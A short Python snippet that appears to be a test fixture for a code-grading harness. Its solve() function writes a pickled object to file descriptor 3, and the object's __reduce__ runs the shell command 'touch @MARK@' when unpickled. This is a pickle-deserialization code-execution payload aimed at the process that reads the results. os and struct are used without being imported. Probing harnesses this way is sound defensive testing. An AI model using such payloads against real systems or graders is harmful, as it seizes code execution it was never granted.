# naive: none
# A pickle in the place of a frame, with the numbers that a careless reader may expect.
import pickle


class Boom:
    def __reduce__(self):
        return (os.system, ("touch @MARK@",))


def solve(X):
    payload = pickle.dumps(Boom())
    for nonce in (0, 1):
        os.write(3, struct.pack("<IQ", len(payload) + 8, nonce) + payload)
    return outright(X)
